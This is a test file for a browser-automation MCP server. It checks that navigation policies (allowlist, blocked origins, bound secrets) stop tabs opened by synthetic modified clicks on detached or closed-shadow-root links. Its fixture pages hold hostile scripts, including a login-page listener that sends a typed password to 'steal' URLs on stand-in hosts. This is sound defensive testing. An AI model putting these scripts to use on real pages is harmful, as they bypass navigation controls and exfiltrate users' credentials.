/**
 * End-to-end attacks through tabs the browser opens itself (red team, session 13, #1): a page
 * script dispatches a synthetic Ctrl, Shift or middle click on a link that is in no document,
 * or in a closed shadow root with `composed: false`, so no listener of the page's window sees
 * it, and Chromium opens the tab from the browser process. The tab's first request must still
 * meet the policy: the allowlist, `--blocked-origins`, and a bound secret's origins; the
 * off-list server never hears of it. A tab to an allowed origin still opens and is reported.
 */
import { assertEquals, assertTrue } from "./_assert.ts";
import { type McpHarness, startStdio, type ToolResult } from "./_mcp.ts";
import { startTwoOrigins, type TwoOrigins } from "./_two_origins.ts";
import { eventually } from "./_util.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";

const textOf = (r: ToolResult) => r.content.map((c) => c.text ?? "").join("\n");
type R = Record<string, unknown>;

/**
 * The attack page: each button's handler clicks a link to `to` + its path that no window
 * listener sees. `#ctrl`, `#shift`, `#middle`: a detached link; `#shadow`: a link in a closed
 * shadow root, the event not composed.
 */
const attackPage = (to: string) =>
  `<title>attack</title><script>
  function detached(path, init) {
    const a = document.createElement("a");
    a.href = ${JSON.stringify(to)} + path;
    a.dispatchEvent(new MouseEvent("click", init));
  }
  function shadowed(path) {
    const host = document.createElement("div");
    document.body.append(host);
    const root = host.attachShadow({ mode: "closed" });
    const a = document.createElement("a");
    a.href = ${JSON.stringify(to)} + path;
    root.append(a);
    a.dispatchEvent(new MouseEvent("click", { ctrlKey: true, composed: false }));
  }
  </script>
  <button id=ctrl onclick="detached('/ctrl', { ctrlKey: true, bubbles: true, cancelable: true })">c</button>
  <button id=shift onclick="detached('/shift', { shiftKey: true })">s</button>
  <button id=middle onclick="detached('/middle', { button: 1 })">m</button>
  <button id=shadow onclick="shadowed('/shadow')">h</button>`;

const VARIANTS = ["ctrl", "shift", "middle", "shadow"];

async function tabUrls(mcp: McpHarness): Promise<string[]> {
  return ((await mcp.ok("tabs", { action: "list" })).tabs as R[]).map((t) => String(t.url));
}

/** Each variant from `page`: refused by the policy, no tab left, nothing reached B. */
async function eachVariantRefused(
  t: Deno.TestContext,
  mcp: McpHarness,
  srv: TwoOrigins,
  page: string,
): Promise<void> {
  for (const id of VARIANTS) {
    await t.step(`${id}: refused, B never asked, no tab left`, async () => {
      await mcp.ok("navigate", { url: page, snapshot: "none" });
      const r = await mcp.call("click", { selector: `#${id}`, snapshot: "none" });
      assertEquals(r.isError, true, textOf(r));
      const s = r.structuredContent!;
      assertEquals((s.error as R).code, "blocked-by-policy", textOf(r));
      assertEquals((s.policy as R).rule, "navigation", textOf(r));
      assertTrue(textOf(r).includes(`/${id}`), textOf(r));
      assertTrue(textOf(r).includes("new tab"), textOf(r));
      assertEquals(await tabUrls(mcp), [page]);
      assertEquals(srv.seen("B"), []);
    });
  }
}

Deno.test("navigation guard: a tab the browser opens itself meets the allowlist", async (t) => {
  const srv = startTwoOrigins((a, b) => ({
    "/attack": attackPage(b),
    "/allowed": attackPage(a) + `<a id=blank target=_blank href="${a}/fine">fine</a>`,
    // The same attack while no call runs (after the click's own window).
    "/later": attackPage(b) +
      `<button id=later onclick="setTimeout(() => { detached('/later', { ctrlKey: true }); ` +
      `fetch('/dispatched'); }, 2500)">l</button>`,
  }));
  const mcp = await startStdio({ env: { BROWX_ALLOWED_ORIGINS: "127.0.0.1" } });
  try {
    await t.step("between calls: stopped, told, and the blank tab closed at once", async () => {
      const page = `${srv.a}/later`;
      await mcp.ok("navigate", { url: page, snapshot: "none" });
      // A short budget ends the click's window before the page's timer fires (2.5 s: within the
      // click's user activation, 5 s, without which the browser would open no tab).
      const click = await mcp.call("click", {
        selector: "#later",
        snapshot: "none",
        timeoutMs: 1000,
      });
      // A machine too busy to end the click's window in 2.5 s: the stop is the click's own.
      const inWindow = click.isError === true && textOf(click).includes("/later");
      // No call until the page has clicked: the stop is judged while none runs.
      await eventually(
        () => srv.seen("A").includes("GET /dispatched"),
        20_000,
        `the page's click after ${textOf(click).slice(0, 300)}`,
      );
      const stopped: string[] = [];
      let opened = 0, closed = 0;
      const seen: unknown[] = [];
      await eventually(
        async () => {
          const r = await mcp.ok("tabs", { action: "list" });
          const since = (r.sinceLastCall ?? {}) as R;
          if (Object.keys(since).length) seen.push(since);
          for (const s of (since.stopped ?? []) as R[]) stopped.push(String(s.url));
          opened += ((since.tabsOpened ?? []) as R[]).length;
          closed += ((since.tabsClosed ?? []) as R[]).length;
          const urls = (r.tabs as R[]).map((x) => String(x.url));
          // A tab that attached is reported opened and closed; one closed before it attached
          // (a busy machine) is in neither: never one left open.
          const told = inWindow || stopped.some((u) => u.endsWith("/later"));
          if (told && opened === closed && opened <= 1 && urls.join() === page) return true;
          throw new Error(JSON.stringify({ urls, seen }));
        },
        15_000,
        "the stop reported and only the page's tab left",
      );
    });
    await eachVariantRefused(t, mcp, srv, `${srv.a}/attack`);

    for (
      const [what, id, path] of [
        ["a target=_blank link", "blank", "/fine"],
        ["a page's Ctrl-click", "ctrl", "/ctrl"],
      ]
    ) {
      await t.step(`${what} to an allowed origin opens, reported`, async () => {
        await mcp.ok("navigate", { url: `${srv.a}/allowed`, snapshot: "none" });
        const r = await mcp.ok("click", { selector: `#${id}`, snapshot: "none" });
        const tabs = (r.structure as R).newTabs as R[];
        assertEquals(tabs.map((x) => x.url), [srv.a + path], JSON.stringify(r));
        await eventually(() => srv.seen("A").includes(`GET ${path}`), 5000, "the tab's request");
      });
    }
    assertEquals(srv.seen("B"), []);
  } finally {
    await mcp.close();
    await srv.close();
  }
});

Deno.test("navigation guard: a tab the browser opens itself meets --blocked-origins", async (t) => {
  const srv = startTwoOrigins((_a, b) => ({ "/attack": attackPage(b) }));
  const mcp = await startStdio({ args: ["--blocked-origins", new URL(srv.b).host] });
  try {
    await eachVariantRefused(t, mcp, srv, `${srv.a}/attack`);
  } finally {
    await mcp.close();
    await srv.close();
  }
});

Deno.test("navigation guard: a bound secret leaves by no tab the browser opens during fill", async () => {
  const SECRET = "Zq7-hunter-Wv3x";
  // C: on the allowlist (127.0.0.1, another port), the secret not bound to it; B: off the list.
  const srv = startTwoOrigins((_a, b) => {
    const c = b.replace("localhost", "127.0.0.1");
    return {
      "/login": `<title>login</title><input id=pw aria-label=pw><script>
        pw.addEventListener("input", () => {
          if (pw.value.length < ${SECRET.length}) return;
          for (const [to, init] of [["${c}/steal-c?v=", { button: 1 }],
            ["${b}/steal-b?v=", { ctrlKey: true }]]) {
            const a = document.createElement("a");
            a.href = to + encodeURIComponent(pw.value);
            a.dispatchEvent(new MouseEvent("click", init));
          }
        });</script>`,
    };
  });
  const { mcp, close } = await startWithBoundSecret(srv.a, SECRET, [], {
    env: { BROWX_ALLOWED_ORIGINS: "127.0.0.1" },
  });
  try {
    const page = `${srv.a}/login`;
    await mcp.ok("navigate", { url: page, snapshot: "none" });
    const r = await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    assertEquals(r.isError, true, textOf(r));
    assertEquals(((r.structuredContent!).error as R).code, "blocked-by-policy", textOf(r));
    assertTrue(!textOf(r).includes(SECRET), "the value is masked in the result");
    assertEquals(await tabUrls(mcp), [page]);
    const sent = srv.hits.filter((h) => h.path.includes("steal"));
    assertEquals(sent, [], "neither tab's request was sent");
  } finally {
    await close();
    await srv.close();
  }
});
